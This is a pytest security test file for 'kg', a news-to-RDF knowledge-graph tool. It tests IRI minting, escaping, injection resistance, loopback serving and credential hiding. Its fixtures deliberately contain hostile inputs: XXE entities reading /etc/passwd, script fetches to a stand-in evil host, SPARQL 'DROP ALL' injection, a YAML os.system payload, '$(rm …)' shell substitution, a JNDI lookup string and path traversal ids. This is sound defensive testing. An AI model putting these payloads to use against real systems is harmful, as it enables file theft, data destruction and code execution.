"""Security: whatever an article says, kg mints valid IRIs, escapes literals, builds no
SPARQL or HTTP request from its text, fetches, runs and writes nothing it names, and
keeps credentials out of its messages and logs; ``kg serve`` is loopback and read-only
unless told otherwise.

``is_iri`` (the RFC 3987 grammar of an absolute IRI) and ``FakeServer`` (a recording
HTTP server on loopback) are shared with tests/test_robustness.py, tests/test_properties.py
and bench/fuzz.py.
"""

from __future__ import annotations

import ast
import base64
import http.server
import inspect
import json
import logging
import os
import re
import socket
import subprocess
import tempfile
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import parse_qs, quote, urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kg.rdf.namespaces import DEFAULT_BASE

ROOT = Path(__file__).resolve().parents[2]

# --------------------------------------------------------------------------- RFC 3987

_UCSCHAR = ("\u00a0-\ud7ff\uf900-\ufdcf\ufdf0-\uffef"
            + "".join(f"{chr(p << 16)}-{chr((p << 16) + 0xFFFD)}" for p in range(1, 14))
            + "\U000e1000-\U000efffd")
_IPRIVATE = "\ue000-\uf8ff\U000f0000-\U000ffffd\U00100000-\U0010fffd"
_UNRESERVED = rf"A-Za-z0-9\-._~{_UCSCHAR}"
_SUB_DELIMS = r"!$&'()*+,;="
_PCT = "%[0-9A-Fa-f]{2}"
_IPCHAR = rf"(?:[{_UNRESERVED}{_SUB_DELIMS}:@]|{_PCT})"
_AUTHORITY = (rf"(?:(?:[{_UNRESERVED}{_SUB_DELIMS}:]|{_PCT})*@)?"
              rf"(?:\[[0-9A-Fa-f:.vV]+\]|(?:[{_UNRESERVED}{_SUB_DELIMS}]|{_PCT})*)(?::[0-9]*)?")
_PATH_ABEMPTY = rf"(?:/{_IPCHAR}*)*"
_IRI = re.compile(
    r"[A-Za-z][A-Za-z0-9+\-.]*:"
    rf"(?://{_AUTHORITY}{_PATH_ABEMPTY}|/(?:{_IPCHAR}+{_PATH_ABEMPTY})?|{_IPCHAR}+{_PATH_ABEMPTY}|)"
    rf"(?:\?(?:{_IPCHAR}|[/?{_IPRIVATE}])*)?"
    rf"(?:#(?:{_IPCHAR}|[/?])*)?"
)


_BIDI_FORMATTING = re.compile("[\u200e\u200f\u202a-\u202e]")


def is_iri(text: str) -> bool:
    """True if ``text`` is an absolute IRI by the grammar of RFC 3987 (section 2.2), without
    the bidi formatting characters that its section 4.1 forbids."""
    return _IRI.fullmatch(text) is not None and not _BIDI_FORMATTING.search(text)


@pytest.mark.parametrize("iri", [
    "https://w3id.org/kg-news/id/entity/q114",
    "https://w3id.org/kg-news/id/entity/caf%C3%A9-m%C3%BCller",
    "http://www.wikidata.org/entity/Q3870",
    "https://w3id.org/kg-news/ontology#Attack",
    "http://例え.テスト/パス?q=値#frag",
    "http://[::1]:7878/query",
    "urn:isbn:0451450523",
])
def test_is_iri_accepts_iris(iri):
    assert is_iri(iri)


@pytest.mark.parametrize("text", [
    "entity/q114", "http://a b/", "http://x/<y>", 'http://x/"y"', "http://x/{y}", "http://x/a|b",
    "http://x/a\\b", "http://x/a^b", "http://x/a`b", "http://x/\x00", "http://x/\x85", "http://x/%zz",
    "http://x/\ufffe", "http://x/\u202e", "http://x/a#b#c", "",
])
def test_is_iri_rejects_what_rfc_3987_forbids(text):
    assert not is_iri(text)


# --------------------------------------------------------------------------- a recording HTTP server


@dataclass
class FakeServer:
    """An HTTP server on 127.0.0.1 that records every request and answers ``status``
    (after ``delay`` seconds), with ``body``."""

    status: int = 200
    body: bytes = b""
    content_type: str = "text/plain"
    delay: float = 0.0
    requests: list[dict] = field(default_factory=list)
    url: str = ""

    def __post_init__(self) -> None:
        fake = self

        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def _any(self) -> None:
                length = int(self.headers.get("Content-Length") or 0)
                body = self.rfile.read(length) if length else b""
                fake.requests.append({"method": self.command, "path": self.path, "headers": dict(self.headers),
                                      "body": body})
                if fake.delay:
                    time.sleep(fake.delay)
                try:
                    self.send_response(fake.status)
                    self.send_header("Content-Type", fake.content_type)
                    self.send_header("Content-Length", str(len(fake.body)))
                    self.end_headers()
                    self.wfile.write(fake.body)
                except OSError:
                    pass  # the client gave up (a timeout test)

            do_GET = do_POST = do_PUT = do_DELETE = do_HEAD = _any

            def log_message(self, *args: object) -> None:
                pass

        self._server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self._server.daemon_threads = True
        self.url = f"http://127.0.0.1:{self._server.server_address[1]}"
        self._thread = threading.Thread(target=self._server.serve_forever, daemon=True)
        self._thread.start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture
def fake_server() -> Iterator[FakeServer]:
    server = FakeServer()
    yield server
    server.close()


def closed_port() -> int:
    """A loopback port nothing listens on (connections are refused)."""
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


def run(*args: str, env: dict | None = None, input: str | bytes | None = None):
    from typer.testing import CliRunner

    from kg.cli.app import app

    return CliRunner().invoke(app, list(args), env=env, input=input)


# --------------------------------------------------------------------------- every minted IRI is valid

NASTY_SEGMENTS = [
    "", " ", "\x00", "\x01\x7f\x85", "\u2028\u2029", "<script>alert(1)</script>", '"""', "\\", "'", "%", "%zz",
    "%41", "a/b?c#d", "../../etc/passwd", "http://evil/", "{}|^`", "مسلحون", "\u202eevil\u202c", "👨‍👩‍👧",
    "Z\u0334\u0321a\u0300", "\ufeff\u200b", "\ufffe\uffff", "\U0010ffff", "ﷺ" * 50, "x" * 10_000,
    "Sean O'Brien", "Mary-Jane Smith-Jones", "_", "-", "İstanbul", "ǅ", "ß" * 100, "\udcff",
]


@pytest.mark.parametrize("segment", NASTY_SEGMENTS, ids=range(len(NASTY_SEGMENTS)))
def test_mint_gives_a_valid_iri_for_any_segment(segment):
    from kg.rdf.iri import mint

    iri = str(mint(DEFAULT_BASE, "entity", segment))
    assert is_iri(iri) and iri.startswith(DEFAULT_BASE + "entity/") and len(iri) < 1000
    assert "/" not in iri[len(DEFAULT_BASE + "entity/"):], "a segment never adds a path level"


@given(st.lists(st.text(), min_size=1, max_size=4))
@settings(max_examples=400, deadline=None)
def test_mint_of_any_text_is_a_valid_iri(segments):
    from kg.rdf.iri import mint

    iri = str(mint(DEFAULT_BASE, *segments))
    assert is_iri(iri) and iri.startswith(DEFAULT_BASE)
    assert iri.count("/") == DEFAULT_BASE.count("/") + len(segments) - 1


# --------------------------------------------------------------------------- a build of hostile text

HOSTILE = {
    "turtle": '@prefix x: <http://evil.example/> . x:a x:b "c" . <http://evil.example/s> <http://evil.example/p> '
              '"o"^^<http://evil.example/t> . } GRAPH <http://evil.example/g> { _:b <p> _:c . Police said 3 died.',
    "sparql": 'DROP ALL ; INSERT DATA { GRAPH <http://evil.example/g> { <http://evil.example/s> <p> "o" } } '
              'SELECT * WHERE { ?s ?p ?o } # Police said 5 people were killed in Kabul.',
    "json": '{"@context": "http://evil.example/ctx", "@id": "http://evil.example/x", "text": "\\"}"} '
            'Officials said 2 people died.',
    "html": '<script>fetch("http://evil.example/")</script><img src=x onerror=alert(1)> </textarea>'
            '<![CDATA[ ]]> &lt;b&gt; Gunmen killed 4 people in Nairobi.',
    "quotes": 'He said "yes", \'no\', “maybe”, ‘perhaps’, «oui», „ja“, 「はい」, `ok`, ″x″ and """triple""" '
              "and '''single''' \\\"escaped\\\" then \"\"\"\" and a lone \" quote.",
    "backslashes": 'C:\\Windows\\ \\\\server\\share \\n \\t \\u0022 \\U0001F600 \\x41 \\ trailing \\',
    "xml": '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><rdf:RDF>&x;</rdf:RDF> ]]>',
    "controls": "Police\x01 said\x0b that\x0c three\x1b[31m people\x7f\x85 died\u2028in\u2029Kabul.\ufffe\uffff",
    "names": "Sean O'Brien, D'Angelo O’Neill and Mary-Jane Smith-Jones of al-Shabaab's wing said 3 died.",
}


@pytest.fixture(scope="module")
def hostile_build(tmp_path_factory) -> Path:
    """The hostile texts (and hostile metadata) built into every format."""
    folder = tmp_path_factory.mktemp("hostile")
    lines = [json.dumps({"id": key, "text": text, "title": text[:80], "url": text[:60], "published": "2013-09-22"})
             for key, text in HOSTILE.items()]
    lines.append(json.dumps({"id": '"><script>x</script> <http://evil.example/> \\"""', "text": "Police said 7 died."}))
    (folder / "in.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")
    result = run("build", str(folder / "in.jsonl"), "-o", str(folder / "out"), "--format", "ttl,trig,nq,nt,jsonld,xml")
    assert result.exit_code == 0, result.output
    return folder / "out"


RDFLIB_FORMATS = {"ttl": "turtle", "trig": "trig", "nq": "nquads", "nt": "nt", "jsonld": "json-ld", "xml": "xml"}


def rdflib_quads(path: Path, name: str) -> list[tuple]:
    from rdflib import Dataset, Graph

    if name in ("trig", "nq", "jsonld"):
        dataset = Dataset()
        dataset.parse(path, format=RDFLIB_FORMATS[name])
        return [(s, p, o) for s, p, o, _ in dataset.quads((None, None, None, None))]
    return list(Graph().parse(path, format=RDFLIB_FORMATS[name]))


def ox_quads(path: Path, name: str) -> list:
    import pyoxigraph as ox

    formats = {"ttl": ox.RdfFormat.TURTLE, "trig": ox.RdfFormat.TRIG, "nq": ox.RdfFormat.N_QUADS,
               "nt": ox.RdfFormat.N_TRIPLES, "jsonld": ox.RdfFormat.JSON_LD, "xml": ox.RdfFormat.RDF_XML}
    return list(ox.parse(path=str(path), format=formats[name]))


ALLOWED_NAMESPACES = (
    DEFAULT_BASE, "https://w3id.org/kg-news/ontology#", "http://www.wikidata.org/entity/",
    "http://www.w3.org/", "http://persistence.uni-leipzig.org/nlp2rdf/ontologies/nif-core#", "https://schema.org/",
)


@pytest.mark.model
def test_every_iri_of_a_hostile_build_is_valid_and_ours(hostile_build):
    import pyoxigraph as ox

    iris = set()
    for quad in ox_quads(hostile_build / "graph.nq", "nq"):
        iris |= {t.value for t in (quad.subject, quad.predicate, quad.object, quad.graph_name)
                 if isinstance(t, ox.NamedNode)}
    assert iris and all(is_iri(i) for i in iris), [i for i in iris if not is_iri(i)]
    assert all(i.startswith(ALLOWED_NAMESPACES) for i in iris), "text never becomes a foreign IRI"
    assert not any(i.startswith("http://evil") for i in iris)


@pytest.mark.model
@pytest.mark.parametrize("name", list(RDFLIB_FORMATS))
def test_literals_are_escaped_in_every_format(hostile_build, name):
    """The texts come back exactly, from rdflib and pyoxigraph (RDF/XML: XML-forbidden characters as U+FFFD)."""
    from kg.rdf.formats import FORMATS

    path = hostile_build / FORMATS[name]
    expected = set(HOSTILE.values()) | {"Police said 7 died."}
    if name == "xml":
        expected = {re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]", "\ufffd", t) for t in expected}
    is_string = "http://persistence.uni-leipzig.org/nlp2rdf/ontologies/nif-core#isString"
    assert {str(o) for _s, p, o in rdflib_quads(path, name) if str(p) == is_string} == expected
    assert {q.object.value for q in ox_quads(path, name) if q.predicate.value == is_string} == expected
    identifiers = {str(o) for _s, p, o in rdflib_quads(path, name) if str(p) == "https://schema.org/identifier"}
    assert '"><script>x</script> <http://evil.example/> \\"""' in identifiers


@pytest.mark.model
def test_injected_syntax_adds_no_triples(hostile_build):
    """Each article gives the same triples as a harmless text of the same shape would: no 'evil' subject."""
    quads = ox_quads(hostile_build / "graph.nq", "nq")
    terms = {t.value for q in quads for t in (q.subject, q.predicate, q.graph_name)}
    assert not any(t.startswith("http://evil") for t in terms)
    assert all(q.predicate.value.startswith(ALLOWED_NAMESPACES) for q in quads)


# --------------------------------------------------------------------------- no SPARQL or HTTP from strings

_SPARQL_WORDS = re.compile(r"\b(SELECT|INSERT|DELETE|CONSTRUCT|ASK|WHERE|GRAPH|DROP|CLEAR|LOAD|FILTER|VALUES)\b")
#: kg.stores.remote.with_prefixes splices only the constant PREFIXES before the user's own query.
#: with_prefixes adds constant prologue lines; _update_text wraps data that pyoxigraph itself
#: serialized (N-Triples terms, escaped by the library) in DROP + INSERT DATA, for one transaction a graph.
_ALLOWED_BUILT = {("kg/stores/remote.py", "with_prefixes"), ("kg/stores/store.py", "_update_text")}


def _built_strings(tree: ast.AST) -> Iterator[tuple[ast.AST, str]]:
    """(node, constant text) of every string built at run time: f-strings, +, %, .format, .join."""
    for node in ast.walk(tree):
        if isinstance(node, ast.JoinedStr):
            yield node, "".join(v.value for v in node.values if isinstance(v, ast.Constant) and isinstance(v.value, str))
        elif isinstance(node, ast.BinOp) and isinstance(node.op, (ast.Add, ast.Mod)):
            parts = [n for n in (node.left, node.right) if isinstance(n, ast.Constant) and isinstance(n.value, str)]
            if parts and not all(isinstance(n, ast.Constant) for n in (node.left, node.right)):
                yield node, " ".join(p.value for p in parts)
        elif isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr in ("format", "join"):
            target = node.func.value
            if isinstance(target, ast.Constant) and isinstance(target.value, str):
                yield node, target.value


def _function_of(tree: ast.AST, target: ast.AST) -> str:
    for node in ast.walk(tree):
        if isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef)) and any(n is target for n in ast.walk(node)):
            return node.name
    return "<module>"


def test_no_sparql_is_built_by_string_formatting():
    """No f-string, +, % or .format in kg/ splices values into SPARQL (queries are constants,
    values go in as pyoxigraph substitutions; remote queries are the user's own text)."""
    offenders = []
    for path in sorted((ROOT / "kg").rglob("*.py")):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node, text in _built_strings(tree):
            if len(_SPARQL_WORDS.findall(text)) >= 2 or re.search(r"\{\s*\?|\?\w+\s+\w*:\w+", text):
                where = (path.relative_to(ROOT).as_posix(), _function_of(tree, node))
                if where not in _ALLOWED_BUILT:
                    offenders.append(f"{where[0]}:{node.lineno} in {where[1]}: {text[:80]!r}")
    assert offenders == []


def test_no_http_url_is_built_from_data():
    """httpx requests take parameters through params=/data=, never a URL spliced from a value."""
    offenders = []
    for path in sorted((ROOT / "kg").rglob("*.py")):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node, text in _built_strings(tree):
            if re.search(r"[?&][\w.-]+=$|[?&][\w.-]+=\{|\?(graph|query|default|action|search)=", text):
                offenders.append(f"{path.relative_to(ROOT)}:{node.lineno}: {text[:80]!r}")
    assert offenders == []


def test_query_bindings_are_substituted_not_spliced():
    import pyoxigraph as ox

    from kg.query.sparql import run_query

    store = ox.Store()
    hostile = ox.Literal('x" } ; DROP ALL ; SELECT * { "')
    table = run_query(store, "SELECT ?v ?x WHERE { BIND(STR(?v) AS ?x) }", bindings={"v": hostile})
    assert table.rows == ((hostile, hostile),)
    assert len(store) == 0


@pytest.mark.model
def test_push_sends_graph_names_as_encoded_parameters(hostile_build, fake_server):
    """kg load: one PUT per graph to the given path; the graph IRI a query parameter, the text in the body."""
    from kg.stores.remote import push_graphs

    import pyoxigraph as ox

    count = push_graphs([hostile_build], fake_server.url + "/store", timeout=10)
    assert count == len(fake_server.requests) and count >= len(HOSTILE) + 2
    expected_graphs = {q.graph_name.value for q in ox_quads(hostile_build / "graph.nq", "nq")}
    sent = set()
    for request in fake_server.requests:
        assert request["method"] == "PUT"
        parts = urlsplit(request["path"])
        assert parts.path == "/store"
        params = parse_qs(parts.query, keep_blank_values=True, strict_parsing=True)
        assert list(params) == ["graph"] and len(params["graph"]) == 1
        sent.add(params["graph"][0])
        fmt = ox.RdfFormat.TURTLE if request["headers"]["Content-Type"] == "text/turtle" else ox.RdfFormat.N_TRIPLES
        list(ox.parse(request["body"], format=fmt))  # each body parses
    assert expected_graphs <= sent
    is_string = "http://persistence.uni-leipzig.org/nlp2rdf/ontologies/nif-core#isString"
    texts = {t.object.value for r in fake_server.requests if r["headers"]["Content-Type"] != "text/turtle"
             for t in ox.parse(r["body"], format=ox.RdfFormat.N_TRIPLES) if t.predicate.value == is_string}
    assert texts == set(HOSTILE.values()) | {"Police said 7 died."}


def test_endpoint_queries_are_form_encoded(fake_server):
    from kg.stores.remote import query_endpoint, with_prefixes

    fake_server.content_type = "application/sparql-results+json"
    fake_server.body = json.dumps({"head": {"vars": ["x"]}, "results": {"bindings": []}}).encode()
    query = 'SELECT ?x WHERE { ?x ?p "a&b=c#d%20e+f\n\\"" }'
    query_endpoint(fake_server.url + "/query?x=1", query, timeout=10)
    (request,) = fake_server.requests
    assert request["method"] == "POST" and urlsplit(request["path"]).path == "/query"
    assert request["headers"]["Content-Type"] == "application/x-www-form-urlencoded"
    assert parse_qs(request["body"].decode("ascii"), strict_parsing=True) == {"query": [with_prefixes(query)]}


# --------------------------------------------------------------------------- kg serve


def test_serve_defaults_to_loopback_and_read_only(tmp_path):
    from kg.cli.store import serve_command
    from kg.stores.serve import DEFAULT_HOST, running_server, serve, server_command

    params = inspect.signature(serve_command).parameters
    assert params["host"].default == "127.0.0.1" and params["writable"].default is False
    for function in (serve, running_server):
        signature = inspect.signature(function).parameters
        assert signature["host"].default == DEFAULT_HOST == "127.0.0.1" and signature["writable"].default is False
    command = server_command(tmp_path, DEFAULT_HOST, 7878, writable=False)
    assert "serve-read-only" in command and command[command.index("--bind") + 1] == "127.0.0.1:7878"
    assert "serve" in server_command(tmp_path, DEFAULT_HOST, 7878, writable=True)


def test_kg_serve_help_shows_the_safe_defaults():
    result = run("serve", "--help")
    assert result.exit_code == 0
    assert "127.0.0.1" in result.output and "--writable" in result.output


def _oxigraph_available() -> bool:
    try:
        from kg.stores.serve import oxigraph_binary

        oxigraph_binary()
        return True
    except Exception:  # noqa: BLE001
        return False


@pytest.mark.skipif(not _oxigraph_available(), reason="the oxigraph server binary is not installed")
def test_default_server_listens_on_loopback_only_and_refuses_writes(tmp_path):
    import httpx

    from kg.stores.serve import free_port, running_server

    data = tmp_path / "build"
    data.mkdir()
    (data / "graph.trig").write_text("<http://example.org/g> { <http://example.org/s> <http://example.org/p> 1 . }\n")
    port = free_port()
    with running_server(data=[data], port=port) as (process, url):
        assert url == f"http://127.0.0.1:{port}/"
        with httpx.Client(timeout=10, trust_env=False) as client:
            update = client.post(url + "update", data={"update": "DROP ALL"})
            put = client.put(url + "store?default", content=b"<urn:a> <urn:b> <urn:c> .",
                             headers={"Content-Type": "application/n-triples"})
            count = client.post(url + "query", data={"query": "SELECT (COUNT(*) AS ?n) { ?s ?p ?o }"},
                                headers={"Accept": "application/sparql-results+json"})
        assert update.status_code >= 400 and put.status_code >= 400
        assert count.json()["results"]["bindings"][0]["n"]["value"] != "0"
        listening = _listening_addresses(process.pid, port)
        assert listening and all(address.startswith("127.") for address in listening), listening


def _listening_addresses(pid: int, port: int) -> list[str]:
    """The IPv4 addresses the process listens on at ``port`` (from /proc/net/tcp)."""
    found = []
    try:
        lines = Path("/proc/net/tcp").read_text().splitlines()[1:]
    except OSError:
        pytest.skip("no /proc/net/tcp")
    for line in lines:
        local, state = line.split()[1], line.split()[3]
        address, hex_port = local.split(":")
        if int(hex_port, 16) == port and state == "0A":  # LISTEN
            found.append(socket.inet_ntoa(bytes.fromhex(address)[::-1]))
    return found


# --------------------------------------------------------------------------- credentials

SECRET = "S3cr3t-pässwörd"


def _no_secret(result, caplog, secret: str = SECRET) -> None:
    output = result.output
    for stream in ("stdout", "stderr"):
        try:
            output += getattr(result, stream)
        except (AttributeError, ValueError):
            pass
    forms = (secret, quote(secret, safe=""), base64.b64encode(f"alice:{secret}".encode()).decode())
    assert not any(form in output for form in forms)
    for record in caplog.records:
        message = record.getMessage()
        assert not any(form in message for form in forms), f"logged by {record.name}: {message}"


@pytest.mark.parametrize("status", [401, 403, 500])
@pytest.mark.parametrize("how", ["option", "env"])
def test_load_credentials_are_sent_but_never_printed_or_logged(one_triple_build, fake_server, caplog, how, status):
    caplog.set_level(logging.DEBUG)
    fake_server.status = status
    fake_server.body = b"denied"
    args = ["load", str(one_triple_build), "--store-url", fake_server.url + "/store", "--user", "alice"]
    env = {"KG_STORE_PASSWORD": SECRET} if how == "env" else {"KG_STORE_PASSWORD": ""}
    if how == "option":
        args += ["--password", SECRET]
    result = run(*args, env=env)
    assert result.exit_code == 2 and len(result.output.strip().splitlines()) == 1, result.output
    sent = fake_server.requests[0]["headers"].get("Authorization", "")
    assert sent == "Basic " + base64.b64encode(f"alice:{SECRET}".encode("utf-8")).decode()
    _no_secret(result, caplog)


@pytest.mark.parametrize("failure", ["refused", "timeout"])
def test_load_failures_never_show_the_password(one_triple_build, caplog, failure):
    caplog.set_level(logging.DEBUG)
    server = None
    if failure == "refused":
        url = f"http://127.0.0.1:{closed_port()}/store"
    else:
        server = FakeServer(delay=3)
        url = server.url + "/store"
    try:
        result = run("load", str(one_triple_build), "--store-url", url, "--user", "alice", "--password", SECRET,
                     "--timeout", "0.5")
    finally:
        if server:
            server.close()
    assert result.exit_code == 2 and len(result.output.strip().splitlines()) == 1, result.output
    _no_secret(result, caplog)


def test_query_endpoint_credentials_never_printed(fake_server, caplog):
    caplog.set_level(logging.DEBUG)
    fake_server.status = 401
    result = run("query", "SELECT * WHERE { ?s ?p ?o }", "--endpoint", fake_server.url + "/query",
                 "--user", "alice", env={"KG_STORE_PASSWORD": SECRET})
    assert result.exit_code == 2
    assert fake_server.requests[0]["headers"]["Authorization"].startswith("Basic ")
    _no_secret(result, caplog)


def test_help_does_not_show_a_password_from_the_environment():
    for command in ("load", "query"):
        result = run(command, "--help", env={"KG_STORE_PASSWORD": SECRET, "KG_STORE_USER": "alice"})
        assert result.exit_code == 0 and SECRET not in result.output


def test_password_in_the_store_url_is_never_logged(one_triple_build, fake_server, caplog):
    caplog.set_level(logging.DEBUG)
    fake_server.status = 401
    url = fake_server.url.replace("http://", f"http://alice:{SECRET}@") + "/store"
    result = run("load", str(one_triple_build), "--store-url", url)
    assert result.exit_code == 2
    _no_secret(result, caplog)


# --------------------------------------------------------------------------- nothing fetched, run or written elsewhere


@dataclass
class Guard:
    connections: list = field(default_factory=list)
    processes: list = field(default_factory=list)


@pytest.fixture
def guard(monkeypatch) -> Guard:
    """Record (and refuse) every outgoing connection and every process start."""
    seen = Guard()

    def connect(sock, address):
        seen.connections.append(address)
        raise OSError("network access in a test of kg build")

    def spawn(*args, **kwargs):
        seen.processes.append(args[:1])
        raise OSError("process start in a test of kg build")

    monkeypatch.setattr(socket.socket, "connect", connect)
    monkeypatch.setattr(socket.socket, "connect_ex", connect)
    monkeypatch.setattr(socket, "create_connection", lambda address, *a, **k: connect(None, address))
    monkeypatch.setattr(subprocess, "Popen", spawn)
    monkeypatch.setattr(os, "system", spawn)
    monkeypatch.setattr(os, "posix_spawn", spawn)
    for name in ("execv", "execve", "execvp", "execvpe", "execl", "execlp"):
        monkeypatch.setattr(os, name, spawn)
    return seen


def _files(folder: Path) -> dict[str, float]:
    return {str(p.relative_to(folder)): p.stat().st_mtime for p in folder.rglob("*") if p.is_file()}


@pytest.mark.model
def test_inputs_cannot_make_kg_fetch_execute_or_write_outside(tmp_path, monkeypatch, guard):
    secret = tmp_path / "secret.txt"
    secret.write_text("SECRET-MARKER-4711", encoding="utf-8")
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me", encoding="utf-8")
    evil = "http://127.0.0.1:9"
    inputs = tmp_path / "in"
    inputs.mkdir()
    (inputs / "page.html").write_text(f"""<!DOCTYPE html [<!ENTITY xxe SYSTEM "file://{secret}">]>
<html><head><base href="{evil}/"><meta http-equiv="refresh" content="0; url={evil}/r">
<meta charset="utf-8"><link rel="stylesheet" href="{evil}/s.css"><link rel="canonical" href="file://{secret}">
<script src="{evil}/x.js"></script><script>fetch("{evil}/f")</script></head>
<body><iframe src="{evil}/i"></iframe><object data="{evil}/o"></object><embed src="{evil}/e">
<svg><image href="{evil}/svg"/></svg><img src="{evil}/img.png" srcset="{evil}/2x.png 2x">
<article><p>Gunmen killed 3 people in Nairobi, police said. &xxe; <a href="file://{secret}">link</a></p>
<video src="{evil}/v"></video><form action="{evil}/post"><input name=x></form></article></body></html>
""", encoding="utf-8")
    (inputs / "front.md").write_text(f"""---
title: !!python/object/apply:os.system ["echo pwned > {tmp_path}/pwned"]
---
Police said 2 people died.
""", encoding="utf-8")
    (inputs / "yaml-anchor.md").write_text("---\nid: &a [*a]\n---\nPolice said 6 people died.\n", encoding="utf-8")
    (inputs / "text.txt").write_text(f"See {evil}/x and file://{secret} and $(rm {victim}) and `rm {victim}`; "
                                     f"{{{{ 7*7 }}}} ${{jndi:ldap://{evil[7:]}/a}}. Police said 4 people died.",
                                     encoding="utf-8")
    (inputs / "corpus.jsonl").write_text("\n".join(json.dumps(r) for r in [
        {"id": "../../../victim", "text": "Police said 5 people died.", "url": f"file://{secret}"},
        {"id": f"/{tmp_path}/pwned", "text": "Officials said 8 people died.", "url": f"{evil}/u"},
        {"id": "con", "text": "Police said 9 people died.", "title": "$(touch pwned)"},
    ]) + "\n", encoding="utf-8")
    cwd = tmp_path / "cwd"
    cwd.mkdir()
    monkeypatch.chdir(cwd)
    (tmp_path / "tmp").mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "tmp"))  # temp files left behind would show
    before = _files(tmp_path)
    out = tmp_path / "out"
    result = run("build", str(inputs), "-o", str(out), "--format", "ttl,trig,jsonld,xml")
    assert result.exit_code == 0, result.output
    assert "front.md" in result.output and "yaml-anchor.md" in result.output  # the YAML tricks are skipped
    assert guard.connections == [] and guard.processes == []
    after = _files(tmp_path)
    created = {name for name in after if name not in before}
    assert created and all(name.startswith("out/") for name in created), created
    assert {name: after[name] for name in before} == before, "no file outside the output folder changed"
    assert not (tmp_path / "pwned").exists() and victim.read_text() == "keep me"
    for path in out.glob("graph.*"):
        assert "SECRET-MARKER" not in path.read_text(encoding="utf-8")


@pytest.mark.model
def test_build_without_online_opens_no_connection(tmp_path, guard):
    (tmp_path / "a.txt").write_text("Al-Shabaab attacked the Westgate mall in Nairobi, police said. "
                                    "President Uhuru Kenyatta spoke to the BBC.", encoding="utf-8")
    result = run("build", str(tmp_path / "a.txt"), "-o", str(tmp_path / "out"))
    assert result.exit_code == 0, result.output
    assert guard.connections == []
